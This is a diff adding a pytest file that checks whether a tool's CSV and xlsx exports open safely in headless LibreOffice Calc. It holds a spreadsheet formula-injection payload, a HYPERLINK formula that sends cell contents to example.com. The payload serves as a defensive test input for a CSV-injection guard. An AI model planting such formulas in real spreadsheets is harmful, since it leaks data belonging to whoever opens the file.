@@ -1,0 +1,67 @@
+"""The output opened by a real spreadsheet: LibreOffice Calc, headless (installed by .ci/run).
+
+Skipped where LibreOffice is not installed, except in CI, where its absence is a failure.
+"""
+
+from __future__ import annotations
+
+import csv
+import os
+import shutil
+import subprocess
+
+import pytest
+from typer.testing import CliRunner
+
+from claimtrace.cli import app
+
+SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+if SOFFICE is None and os.environ.get("CI") == "true":
+    pytest.fail("LibreOffice (soffice) is missing: .ci/run installs libreoffice-calc-nogui", pytrace=False)
+pytestmark = pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed")
+
+ATTACK = '=HYPERLINK("http://example.com/?leak="&A2,"See source [1]") is what an attacker writes.[1]'
+TEXT = f"{ATTACK}\nThe “extremist organization,” rose 40% in Zürich.[2]\n"
+# LibreOffice's CSV import: comma, double quote, character set detected (0) as its dialog does.
+CSV_FILTER = "CSV:44,34,0"
+
+
+def _calc(tmp_path, source, infilter=None, to="xlsx"):
+    """`source` converted by LibreOffice to `to`; the path of the result."""
+    out = tmp_path / f"lo-{source.stem}"
+    args = [SOFFICE, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile"]
+    if infilter:
+        args.append(f"--infilter={infilter}")
+    subprocess.run([*args, "--convert-to", to, "--outdir", str(out), str(source)],
+                   check=True, capture_output=True, timeout=120)
+    return out / f"{source.stem}.{to.split(':')[0]}"
+
+
+def _ledger(tmp_path, name, *options):
+    source = tmp_path / "article.txt"
+    source.write_text(TEXT, encoding="utf-8")
+    out = tmp_path / name
+    result = CliRunner().invoke(app, ["extract", str(source), "-o", str(out), "--all", *options])
+    assert result.exit_code == 0, result.output
+    return out
+
+
+def test_csv_cells_are_not_formulas_in_libreoffice_and_text_survives(tmp_path):
+    openpyxl = pytest.importorskip("openpyxl")
+    guarded = _calc(tmp_path, _ledger(tmp_path, "guarded.csv", "--excel"), CSV_FILTER)
+    raw = _calc(tmp_path, _ledger(tmp_path, "raw.csv", "--raw-cells"), CSV_FILTER)
+    guarded_cells = [c for row in openpyxl.load_workbook(guarded).active.iter_rows() for c in row]
+    raw_cells = [c for row in openpyxl.load_workbook(raw).active.iter_rows() for c in row]
+    assert not [c.value for c in guarded_cells if c.data_type == "f"]  # no formula at all
+    assert any(c.data_type == "f" for c in raw_cells)  # the guard is what stops it
+    texts = [str(c.value) for c in guarded_cells]
+    assert "The “extremist organization,” rose 40% in Zürich.[2]" in texts
+
+
+def test_libreoffice_reads_the_workbook(tmp_path):
+    book = _ledger(tmp_path, "ledger.xlsx")
+    as_csv = _calc(tmp_path, book, None, "csv:Text - txt - csv (StarCalc):44,34,76")
+    rows = list(csv.reader(as_csv.read_text(encoding="utf-8").splitlines()))
+    assert rows[0][:6] == ["doc", "id", "section", "paragraph", "sentence", "text"]
+    texts = [row[5] for row in rows[1:]]
+    assert ATTACK in texts and "The “extremist organization,” rose 40% in Zürich.[2]" in texts
